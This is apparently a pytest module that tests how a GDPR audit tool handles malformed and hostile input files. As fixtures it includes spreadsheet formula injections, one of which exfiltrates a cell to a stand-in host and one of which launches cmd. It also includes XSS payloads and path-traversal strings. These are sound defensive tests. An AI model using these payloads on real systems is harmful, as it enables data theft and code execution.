"""Broken and hostile inputs: the corpus in tests/fixtures/bad_inputs/, one test per case.

Every case ends either in data-quality findings (the audit goes on with the rows as they are) or in
one clear error naming the file and, where there is one, the row (line in the file) and column --
never a traceback. Inputs are byte-identical afterwards (checksums), and a run leaves no partial
output folder. The loader/schema cases are fast; the few `e2e` runs go through
`audit_lib.runner.run(..., only=["ropa"])`.
"""

from __future__ import annotations

import csv
import hashlib
import io
import random
import re
import shutil
from dataclasses import dataclass
from html import unescape
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook

from audit_lib.context import load_inputs
from audit_lib.documents.contracts import REFUSED_REASON, analyse_document
from audit_lib.errors import InputError, ParameterError
from audit_lib.loaders import read_register
from audit_lib.params import load_params
from audit_lib.runner import run
from audit_lib.schemas import check_register, expected_columns, required_columns

ROOT = Path(__file__).resolve().parent.parent
CORPUS = Path(__file__).resolve().parent / "fixtures" / "bad_inputs"
SAMPLE_REGISTER = ROOT / "data" / "sample" / "processing_register.csv"


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(autouse=True)
def corpus_is_never_modified():
    """Inputs are opened read-only: every corpus file is byte-identical after each test."""
    before = {path.name: sha256(path) for path in CORPUS.iterdir() if path.is_file()}
    yield
    after = {path.name: sha256(path) for path in CORPUS.iterdir() if path.is_file()}
    assert after == before


def load(register: str, path: Path, **options) -> tuple[pd.DataFrame, pd.DataFrame]:
    """What an audit does with one input: read (names as the parameters file shows them), type, validate."""
    frame, info = read_register(
        register,
        path,
        shown_as=path.name,
        required=required_columns(register),
        expected=expected_columns(register),
        **options,
    )
    return check_register(frame, register, header_row=info.header_row, source=path.name)


def input_error(register: str, path: Path, **options) -> InputError:
    """The one-line error for an unusable file: it starts with the file's name, has no traceback."""
    before = sha256(path) if path.is_file() else None
    with pytest.raises(InputError) as caught:
        load(register, path, **options)
    text = str(caught.value)
    assert text.startswith(path.name), text
    assert "\n" not in text and "Traceback" not in text
    assert (sha256(path) if path.is_file() else None) == before
    return caught.value


def findings(dq: pd.DataFrame) -> set[tuple[str, str]]:
    return set(zip(dq["rule_id"], dq["record_key"], strict=True))


def message_for(dq: pd.DataFrame, record_key: str) -> str:
    return dq.loc[dq["record_key"] == record_key, "message"].iloc[0]


# --------------------------------------------------------------------------- unreadable files


def test_empty_file():
    error = input_error("retention_schedule", CORPUS / "empty.csv")
    assert error.problem == "is empty"


def test_header_only_gives_no_rows_and_no_findings():
    typed, dq = load("retention_schedule", CORPUS / "header_only.csv")
    assert len(typed) == 0 and dq.empty


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("random.csv", random.Random(9).randbytes(8192), "is binary"),
        ("image.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64), "is binary"),
        ("legacy.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "legacy Excel (.xls)"),
        ("archive.csv", b"PK\x03\x04" + bytes(64), "ZIP archive"),
    ],
)
def test_binary_garbage(tmp_path, name, content, problem):
    path = tmp_path / name
    path.write_bytes(content)
    assert problem in input_error("retention_schedule", path).problem


def test_a_corrupt_workbook(tmp_path):
    path = tmp_path / "schedule.xlsx"
    path.write_bytes(b"PK\x03\x04 this is not a workbook")
    assert "cannot be read as XLSX" in input_error("retention_schedule", path).problem


HEADER = "rule_id,data_category,trigger,duration,action\n"


def test_wrong_encoding_utf16_without_byte_order_mark(tmp_path):
    path = tmp_path / "schedule.csv"
    path.write_bytes((HEADER + "RET-1,facture,collected,P10Y,archive\n").encode("utf-16-le"))
    error = input_error("retention_schedule", path)
    assert "UTF-16" in error.problem and "encoding: utf-16-le" in error.suggestion


def test_utf16_with_byte_order_mark_is_read(tmp_path):
    path = tmp_path / "schedule.csv"
    path.write_bytes((HEADER + "RET-1,données,collected,P10Y,archive\n").encode("utf-16"))
    typed, dq = load("retention_schedule", path)
    assert typed.loc[0, "data_category"] == "données" and dq.empty


def test_wrong_encoding_neither_utf8_nor_windows_1252_names_the_row(tmp_path):
    path = tmp_path / "schedule.csv"
    # 0x81 and 0x8d are undefined in Windows-1252 and invalid in UTF-8
    path.write_bytes(
        HEADER.encode() + b"RET-1,a,collected,P1Y,delete\nRET-2,\x81\x8d,collected,P1Y,delete\n"
    )
    error = input_error("retention_schedule", path)
    assert error.row == 3 and "neither UTF-8 nor Windows-1252" in error.problem


def test_wrong_encoding_given_in_the_parameters_names_the_row(tmp_path):
    path = tmp_path / "schedule.csv"
    path.write_bytes(
        (
            HEADER + "RET-1,facture,collected,P10Y,archive\nRET-2,employé,collected,P5Y,delete\n"
        ).encode("cp1252")
    )
    error = input_error("retention_schedule", path, encoding="utf-8")
    assert error.row == 3 and "cannot be decoded as utf-8" in error.problem


def test_truncated_last_line():
    error = input_error("retention_schedule", CORPUS / "truncated_last_line.csv")
    assert error.row == 3 and "looks truncated" in error.problem


def test_ragged_rows_name_the_first_row_and_list_the_others():
    error = input_error("retention_schedule", CORPUS / "ragged_rows.csv")
    assert error.row == 3 and error.problem == "has 4 fields where the header has 6"
    assert "also rows 4" in error.suggestion  # an unquoted comma: 7 fields


def test_missing_required_column_names_it_and_suggests_the_closest_header():
    error = input_error("retention_schedule", CORPUS / "missing_required_column.csv")
    assert error.column == "data_category" and "data_categry" in error.suggestion


def test_missing_input_file(tmp_path):
    error = input_error("retention_schedule", tmp_path / "does_not_exist.csv")
    assert error.problem == "file not found"


def test_a_folder_instead_of_a_file(tmp_path):
    folder = tmp_path / "schedule.csv"
    folder.mkdir()
    assert input_error("retention_schedule", folder).problem == "is not a file"


# --------------------------------------------------------------------------- data-quality findings


def test_duplicated_ids():
    _, dq = load("retention_schedule", CORPUS / "duplicated_ids.csv")
    assert findings(dq) == {("DQ-003", "row 2"), ("DQ-003", "row 4")}
    assert (
        "duplicated_ids.csv row 4, column 'rule_id': 'RET-1' appears more than once"
        in message_for(dq, "row 4")
    )


def test_unparseable_dates():
    typed, dq = load("hr_roster", CORPUS / "unparseable_dates.csv")
    assert findings(dq) == {("DQ-001", "U0002"), ("DQ-001", "U0003"), ("DQ-001", "U0004")}
    assert "row 3, column 'employment_start': '2020-02-30' is not a date" in message_for(
        dq, "U0002"
    )
    both = message_for(dq, "U0003")  # one finding per row, naming each column
    assert (
        "column 'employment_start': '31/12/2019'" in both
        and "column 'employment_end': 'soon'" in both
    )
    assert typed["employment_start"].isna().tolist() == [False, True, True, False]


def test_unparseable_numbers_and_booleans():
    """`1.0` is how a spreadsheet exports a ticked 1: read as yes (real_registers.md section 3)."""
    typed, dq = load("systems", CORPUS / "unparseable_numbers_and_booleans.csv")
    assert findings(dq) == {("DQ-001", "Wiki"), ("DQ-001", "Backup")}
    assert "'maybe' is not yes/no" in message_for(dq, "Backup")
    assert typed["holds_personal_data"].tolist()[0] is True
    assert typed["holds_personal_data"].tolist()[3] is True


def test_a_non_number_where_a_threshold_is_expected(tmp_path):
    params = tmp_path / "params.yaml"
    params.write_text(
        "organisation: O\nperiod: P\naudit_date: 2026-09-30\nthresholds:\n  ROPA-007: {months: 0012}\n",
        encoding="utf-8",
    )
    with pytest.raises(ParameterError) as caught:
        load_params(params)
    assert caught.value.key == "thresholds.ROPA-007.months" and "'0012'" in str(caught.value)


def test_unknown_enum_values():
    typed, dq = load("retention_schedule", CORPUS / "unknown_enum_values.csv")
    assert findings(dq) == {("DQ-002", "RET-2"), ("DQ-002", "RET-3")}
    assert "'birthday' is not an allowed value (expected one of: collected," in message_for(
        dq, "RET-2"
    )
    assert "column 'action': 'shred'" in message_for(dq, "RET-3")
    assert typed.loc[0, ["trigger", "action"]].tolist() == ["collected", "archive"]  # any case


def test_extra_unknown_columns_are_kept_and_ignored():
    typed, dq = load("retention_schedule", CORPUS / "extra_unknown_columns.csv")
    assert dq.empty
    assert {"comments", "internal_ref"} <= set(typed.columns)


def test_xlsx_with_a_title_row_blank_rows_and_a_number_for_a_date(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["HR roster -- exported 2026-09-30"])
    sheet.append([])
    sheet.append(["User ID", "Department", "Employment start", "Employment end"])
    sheet.append(["U0001", "Sales", "2020-01-15", None])
    sheet.append([])
    sheet.append(["U0002", "IT", 45000, None])  # an Excel serial number, not a date
    path = tmp_path / "roster.xlsx"
    book.save(path)
    typed, dq = load("hr_roster", path)
    assert typed["user_id"].tolist() == ["U0001", "U0002"]
    assert findings(dq) == {("DQ-001", "U0002")}
    assert "roster.xlsx row 6, column 'employment_start': '45000' is not a date" in message_for(
        dq, "U0002"
    )


def test_one_megabyte_cell(tmp_path):
    big = "x" * (1 << 20)
    path = tmp_path / "schedule.csv"
    path.write_text(
        HEADER + f'RET-1,"{big}",collected,P10Y,archive\nRET-2,b,collected,P1Y,delete\n'
    )
    typed, dq = load("retention_schedule", path)
    assert typed.loc[0, "data_category"] == big and len(typed) == 2 and dq.empty


def test_formula_looking_values_stay_text():
    typed, dq = load("retention_schedule", CORPUS / "formula_values.csv")
    assert typed["rule_id"].tolist() == ["=1+2", "@SUM(1+1)"]
    assert typed["data_category"].tolist() == [
        '=HYPERLINK("http://example.test/?leak="&A1;"click")',
        "-2+3",
    ]
    assert typed["legal_reference"].tolist() == ["+cmd|' /C calc'!A0", "leading tab"]
    assert dq.empty  # neutralising them is the exports' job (findings.xlsx): see test_security


def test_markup_in_text_values_stays_text():
    typed, dq = load("retention_schedule", CORPUS / "markup_values.csv")
    assert typed["data_category"].tolist() == ["<script>alert(1)</script>", "prospect & co"]
    assert typed["legal_reference"].tolist() == [
        "<img src=x onerror=alert(1)>",
        '<b>bold</b> "quoted"',
    ]
    assert dq.empty  # escaping is the reports' job: see test_security and test_browser


def test_blank_lines_and_values_spanning_lines_keep_row_numbers_right():
    typed, dq = load("retention_schedule", CORPUS / "blank_lines_and_multiline_values.csv")
    assert typed.loc[0, "legal_reference"] == "first line\r\nsecond line"
    # RET-2 is on line 5 of the file (the value of RET-1 spans lines 2-3, line 4 is blank)
    assert "row 5, column 'trigger': 'birthday'" in message_for(dq, "RET-2")


def test_a_blank_first_line_keeps_ids_as_text(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text("\nuser_id,employment_start\n0042,2020-01-01\n", encoding="utf-8")
    typed, dq = load("hr_roster", path)
    assert typed["user_id"].tolist() == ["0042"] and dq.empty


def test_old_mac_line_endings(tmp_path):
    path = tmp_path / "schedule.csv"
    path.write_bytes((HEADER + "RET-1,a,collected,P1Y,delete\r").replace("\n", "\r").encode())
    typed, dq = load("retention_schedule", path)
    assert typed["rule_id"].tolist() == ["RET-1"] and dq.empty


# --------------------------------------------------------------------------- contract documents


@pytest.fixture
def documents(tmp_path) -> Path:
    """A parameters folder with a contract inside and a secret next to it."""
    base = tmp_path / "parameters"
    (base / "contracts").mkdir(parents=True)
    (base / "contracts" / "dpa.md").write_text("Only on documented instructions.", encoding="utf-8")
    (tmp_path / "secret.txt").write_text("The processor shall delete all data.", encoding="utf-8")
    return base


def test_contract_document_path_that_escapes_the_parameters_folder(documents):
    for value in (
        "../secret.txt",
        "contracts/../../secret.txt",
        str(documents.parent / "secret.txt"),
    ):
        analysis = analyse_document(documents, value)
        assert (analysis.status, analysis.reason) == ("refused", REFUSED_REASON), value
        assert str(documents.parent) not in analysis.reason


def test_contract_document_symlink_that_leaves_the_parameters_folder(documents):
    (documents / "contracts" / "link.md").symlink_to(documents.parent / "secret.txt")
    analysis = analyse_document(documents, "contracts/link.md")
    assert (analysis.status, analysis.reason) == ("refused", REFUSED_REASON)
    assert analyse_document(documents, "contracts/dpa.md").status == "analysed"


# --------------------------------------------------------------------------- parameters files


def parameter_error(name: str) -> ParameterError:
    with pytest.raises(ParameterError) as caught:
        load_params(CORPUS / name)
    assert str(caught.value).startswith(str(CORPUS / name))
    assert "\n" not in str(caught.value)
    return caught.value


def test_parameters_unknown_key_is_named_with_a_suggestion():
    error = parameter_error("params_unknown_key.yaml")
    assert error.key == "thresholdz" and error.suggestion == "did you mean 'thresholds'?"


def test_parameters_wrong_type():
    error = parameter_error("params_wrong_type.yaml")
    assert error.key == "audit_date" and "'yesterday' is not a date" in str(error)


def test_parameters_impossible_date_is_an_error_not_a_traceback():
    error = parameter_error("params_impossible_date.yaml")
    assert error.key == "audit_date" and "'2026-02-30' is not a date" in str(error)


def test_parameters_duplicate_key_is_refused():
    error = parameter_error("params_duplicate_key.yaml")
    assert error.key == "inputs" and "given twice (lines 4 and 6)" in str(error)


def test_parameters_yaml_pitfalls_no_and_leading_zeros_stay_strings():
    params = load_params(CORPUS / "params_yaml_pitfalls.yaml")
    assert (params.organisation, params.period) == ("NO", "0042")
    assert params.service_accounts == ["NO", "0042", "yes", "off", "07:00"]


def test_parameters_missing_input_path_is_a_blocking_error_naming_the_file():
    params = load_params(CORPUS / "params_missing_input.yaml")
    ctx = load_inputs("ropa", params, ("processing_register",))
    assert [str(e) for e in ctx.errors] == [
        "does_not_exist.csv: file not found (expected an existing CSV, XLSX, ODS or Parquet file)"
    ]


# --------------------------------------------------------------------------- end to end


def error_box(html: str) -> str:
    """The text of a report's first error box (the blocking input errors), as a reader sees it."""
    start = html.index('class="gdpr-msg gdpr-msg-error"')
    box = html[html.index(">", start) + 1 : html.index("</div>", start)]
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", box)).split())


def partial_folders(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.glob(".*.partial-*"))


@dataclass
class Run:
    code: int
    out: Path
    err: str
    inputs_before: dict[str, str]
    inputs_after: dict[str, str]


def _run_ropa(folder: Path, register: Path | None, capfd) -> Run:
    """`gdpr-audit run --only ropa` on `folder/params.yaml` (input: register.csv); stderr captured."""
    params = folder / "params.yaml"
    params.write_text(
        "organisation: Example Group\nperiod: 2026-Q3\naudit_date: 2026-09-30\n"
        "inputs:\n  processing_register: register.csv\n",
        encoding="utf-8",
    )
    inputs = [p for p in (register, params) if p is not None]
    before = {p.name: sha256(p) for p in inputs}
    out = folder / "out"
    capfd.readouterr()
    code = run(params, out, only=["ropa"], stream="stderr", jobs=1)
    err = capfd.readouterr().err
    return Run(code, out, err, before, {p.name: sha256(p) for p in inputs})


def hostile_register() -> str:
    """The sample's processing register with several bad and hostile rows at once (CSV text)."""
    with open(SAMPLE_REGISTER, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    columns = list(rows[0])
    rows = rows[:12]
    for row, activity_id in zip(
        rows[:3], ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "=1+2"], strict=True
    ):
        row.update(activity_id=activity_id, name=activity_id, purposes="")  # ROPA-001 on each
    rows[3]["controller"] = "Example Group SA\n12 rue de la Paix"  # a value on two lines
    rows[4]["activity_id"] = rows[5]["activity_id"]  # DQ-003
    rows[6]["last_reviewed"] = "2026-13-45"  # DQ-001
    rows[7]["transfer_safeguard"] = "pinky promise"  # DQ-002
    rows[8]["transfer_countries"] = "<svg onload=alert(1)>"  # DQ-002, shown in its message
    rows[9]["security_measures"] = "encrypted; " * 100_000  # a 1 MB cell
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows[:4])
    buffer.write("\n")  # a blank line
    writer.writerows(rows[4:])
    return buffer.getvalue()


# the lines of the rows above in the file: header 1, rows[0..2] on 2-4, rows[3] on 5-6, a blank
# line 7, then rows[4] on 8, ...: findings must name these, not the position in the frame
HOSTILE_LINES = {"duplicates": (8, 9), "date": 10, "enum": 11, "country": 12}

_HOSTILE: dict[str, Run] = {}


def hostile_ropa_run(tmp_path_factory) -> Run:
    """One ROPA run over the hostile register, shared by this module, test_security and test_browser."""
    if "run" not in _HOSTILE:
        folder = tmp_path_factory.mktemp("hostile")
        register = folder / "register.csv"
        register.write_text(hostile_register(), encoding="utf-8")
        params = folder / "params.yaml"
        params.write_text(
            "organisation: Example Group\nperiod: 2026-Q3\naudit_date: 2026-09-30\n"
            "inputs:\n  processing_register: register.csv\n",
            encoding="utf-8",
        )
        before = {p.name: sha256(p) for p in (register, params)}
        err = io.StringIO()
        code = run(params, folder / "out", only=["ropa"], stream=err, jobs=1)
        after = {p.name: sha256(p) for p in (register, params)}
        _HOSTILE["run"] = Run(code, folder / "out", err.getvalue(), before, after)
    return _HOSTILE["run"]


@pytest.fixture(scope="session")
def hostile_run(tmp_path_factory) -> Run:
    return hostile_ropa_run(tmp_path_factory)


@pytest.mark.e2e
def test_run_over_a_register_with_several_bad_rows(hostile_run):
    result = hostile_run
    assert result.code == 0, result.err  # data-quality findings do not block the audit
    assert result.inputs_after == result.inputs_before
    assert partial_folders(result.out.parent) == []
    assert "Traceback" not in result.err and "[ropa] done" in result.err
    table = pd.read_csv(result.out / "findings.csv", dtype=str, keep_default_na=False)
    dq = table[table["rule_id"].str.startswith("DQ-")].set_index("rule_id")["message"]
    lines = HOSTILE_LINES
    assert [m.split(":")[0] for m in dq["DQ-003"]] == [
        f"register.csv row {line}, column 'activity_id'" for line in lines["duplicates"]
    ]
    assert (
        f"register.csv row {lines['date']}, column 'last_reviewed': '2026-13-45' is not a date"
        in dq["DQ-001"]
    )
    messages = " | ".join(dq[dq.index == "DQ-002"])
    assert f"row {lines['enum']}, column 'transfer_safeguard': 'pinky promise'" in messages
    assert f"row {lines['country']}, column 'transfer_countries'" in messages
    # the rest of the audit ran: the rows with hostile ids have their ROPA-001 findings
    ropa_001 = set(table.loc[table["rule_id"] == "ROPA-001", "record_key"])
    assert {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "=1+2"} <= ropa_001
    html = (result.out / "ropa.html").read_text(encoding="utf-8")
    assert "Data quality" in html and "2026-13-45" in html and "Traceback" not in html


@pytest.mark.e2e
def test_run_with_a_missing_art30_column_reports_it_on_every_record(tmp_path, capfd):
    """real_registers.md section 2: a processing register missing an Art. 30 column is judged,
    not refused -- ROPA-001 names the column as absent on every record, and the report says
    which column is absent and the closest header to map."""
    register = tmp_path / "register.csv"
    frame = pd.read_csv(SAMPLE_REGISTER, dtype=str, keep_default_na=False)
    frame.rename(columns={"purposes": "purpose"}).to_csv(register, index=False)
    result = _run_ropa(tmp_path, register, capfd)
    assert result.code == 0
    assert "input error" not in result.err and "Traceback" not in result.err
    assert result.inputs_after == result.inputs_before
    findings = pd.read_csv(result.out / "findings.csv", dtype=str, keep_default_na=False)
    rule_001 = findings[findings["rule_id"] == "ROPA-001"]
    assert len(rule_001) == len(frame)
    assert (
        rule_001["message"]
        .str.contains("purposes (no such column in the register)", regex=False)
        .all()
    )
    html = (result.out / "ropa.html").read_text(encoding="utf-8")
    assert (
        "column 'purposes' is absent from the register (closest header: 'purpose' -- map it "
        "under columns:)" in html
    )


@pytest.mark.e2e
def test_run_with_a_file_that_is_not_a_processing_register(tmp_path, capfd):
    """Still blocking: a file with none of the register's columns (the wrong file)."""
    register = tmp_path / "register.csv"
    register.write_text("invoice,amount\nF-1,12.50\n", encoding="utf-8")
    result = _run_ropa(tmp_path, register, capfd)
    assert result.code == 2
    lines = [line for line in result.err.splitlines() if "input error" in line]
    assert len(lines) == 1 and "has none of the columns of a processing register" in lines[0]
    assert "register.csv" in lines[0] and "Traceback" not in result.err
    assert partial_folders(tmp_path) == []


@pytest.mark.e2e
def test_run_with_a_missing_input_file(tmp_path, capfd):
    result = _run_ropa(tmp_path, None, capfd)
    assert result.code == 2
    assert (
        "gdpr-audit: [ropa] input error: register.csv: file not found (expected an existing CSV, "
        "XLSX, ODS or Parquet file)" in result.err.splitlines()
    )
    assert "Traceback" not in result.err
    assert partial_folders(tmp_path) == [] and result.inputs_after == result.inputs_before
    html = (result.out / "ropa.html").read_text(encoding="utf-8")
    assert error_box(html).endswith(
        "could not run: an input is unusable. Correct it and run the audit again. "
        "register.csv: file not found (expected an existing CSV, XLSX, ODS or Parquet file)"
    )
    assert "Traceback" not in html
    index = (result.out / "index.html").read_text(encoding="utf-8")
    assert "register.csv: file not found" in index


def test_unusable_parameters_stop_before_any_output(tmp_path, capfd):
    shutil.copy(CORPUS / "params_unknown_key.yaml", tmp_path / "params.yaml")
    capfd.readouterr()
    assert run(tmp_path / "params.yaml", tmp_path / "out", stream="stderr") == 2
    err = capfd.readouterr().err
    assert "parameter 'thresholdz': unknown key; did you mean 'thresholds'?" in err
    assert "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["params.yaml"]  # nothing written
